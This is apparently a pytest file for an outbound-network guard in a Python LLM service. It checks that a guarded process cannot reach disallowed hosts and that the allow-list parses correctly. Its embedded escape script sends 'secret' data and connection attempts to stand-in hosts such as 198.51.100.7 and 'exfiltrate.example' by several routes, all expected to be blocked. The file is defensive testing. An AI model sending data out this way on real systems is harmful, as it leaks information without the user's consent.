"""Trying to get out: by a socket, by urllib, by httpx, by name and by address; and what may be reached still is."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from socket import AF_INET

import httpx
import psutil
import pytest
from tests.llm.service.model_server import ModelServer, serving

from genba_llm.egress import EgressGuard, EgressRefused

ESCAPE = """
import asyncio, http.client, socket, sys, urllib.request
import httpx
from genba_llm.egress import EgressGuard
port = int(sys.argv[1])
refused = []
EgressGuard(["10.9.8.0/24", "models.example:8000"], on_refused=refused.append).enforce()
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"secret", ("198.51.100.7", 53))
def message():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendmsg([b"secret"], [], 0, ("198.51.100.7", 53))
async def streams():
    await asyncio.open_connection("198.51.100.7", 443)
ways = {
    "socket": lambda: socket.create_connection(("198.51.100.7", 443), timeout=1),
    "connect_ex": lambda: socket.socket().connect_ex(("198.51.100.7", 443)),
    "name": lambda: socket.getaddrinfo("exfiltrate.example", 443),
    "udp": udp,
    "message": message,
    "urllib": lambda: urllib.request.urlopen("http://198.51.100.7/", timeout=1),
    "http.client": lambda: http.client.HTTPConnection("exfiltrate.example", timeout=1).request("GET", "/"),
    "httpx": lambda: httpx.get("https://198.51.100.7/", timeout=1, trust_env=False),
    "asyncio": lambda: asyncio.run(streams()),
    "ipv6": lambda: socket.create_connection(("2001:db8::1", 443), timeout=1),
}
out = []
for name, way in ways.items():
    try:
        way()
    except PermissionError:
        pass
    except Exception as error:
        if not isinstance(error.__cause__ or error.__context__, PermissionError) and "refused" not in str(error).lower():
            out.append(f"{name}: {error!r}")
    else:
        out.append(name)
assert httpx.get(f"http://127.0.0.1:{port}/v1/models", trust_env=False).status_code == 200
assert socket.create_connection(("localhost", port), timeout=5)
print("OUT", out, len(refused))
"""


NAMED = """
import socket, sys
from genba_llm.egress import EgressGuard
address = sys.argv[1]
name = hex(int.from_bytes(socket.inet_aton(address), "big"))  # a name to the guard; the resolver needs no server for it
def connect(host, port):
    try:
        socket.create_connection((host, port), timeout=5).close()
    except PermissionError:
        return "refused"
    return "reached"
with socket.create_server((address, 0)) as listening:
    port = listening.getsockname()[1]
    EgressGuard([f"{name}:{port}"]).enforce()
    print(connect(address, port), connect(name, port), connect(address, port), connect(address, port + 1))
"""


@pytest.fixture
def server() -> Iterator[ModelServer]:
    with serving() as found:
        yield found


def test_no_way_out_of_a_guarded_process(server: ModelServer) -> None:
    done = subprocess.run(
        [sys.executable, "-c", ESCAPE, str(server.port)], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("OUT [] "), done.stdout
    assert int(done.stdout.split()[-1]) >= 9


def test_a_name_that_is_allowed_is_reached_where_it_resolves_to_and_at_its_port_only() -> None:
    found = [each.address for every in psutil.net_if_addrs().values() for each in every if each.family is AF_INET]
    outside = [address for address in found if not address.startswith("127.")]
    if not outside:
        pytest.skip("this machine has no address but loopback")
    done = subprocess.run(
        [sys.executable, "-c", NAMED, outside[0]], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.stdout.split() == ["refused", "reached", "reached", "refused"], done.stderr


def test_a_guarded_client_reaches_what_is_allowed_and_nothing_else(server: ModelServer) -> None:
    refused: list[str] = []
    guard = EgressGuard(["10.0.0.0/8", "Models.Example:8000", "https://api.local"], on_refused=refused.append)
    with httpx.Client(transport=guard.transport(), trust_env=False) as client:
        assert client.get(f"http://127.0.0.1:{server.port}/v1/models").status_code == 200
        for url in ("http://192.0.2.1/", "http://models.example:8001/", "http://api.local/", "http://[2001:db8::1]/"):
            with pytest.raises(EgressRefused):
                client.get(url)
    assert len(refused) == 4


@pytest.mark.parametrize(
    ("host", "port", "may"),
    [
        ("10.1.2.3", 5, True),
        ("11.1.2.3", 5, False),
        ("models.example", 8000, True),
        ("MODELS.EXAMPLE.", 8000, True),
        ("models.example", 8001, False),
        ("models.example.evil.test", 8000, False),
        ("api.local", 443, True),
        ("any.local", 1, True),
        ("127.0.0.1", 1, True),
        ("::1", 1, True),
        ("::ffff:127.0.0.1", 1, True),
        ("::ffff:10.0.0.1", 1, True),
        ("::ffff:8.8.8.8", 1, False),
        ("0x7f.1", 1, False),
        ("fe80::1%eth0", 1, False),
    ],
)
def test_who_may_be_reached(host: str, port: int, *, may: bool) -> None:
    guard = EgressGuard(["10.0.0.0/8", "models.example:8000", "https://api.local", "any.local"])
    assert guard.permits(host, port) is may


@pytest.mark.parametrize("entry", ["", "10.0.0.0/99", "http://"])
def test_an_entry_that_names_nothing_is_refused(entry: str) -> None:
    with pytest.raises(ValueError, match=r".*"):
        EgressGuard([entry])
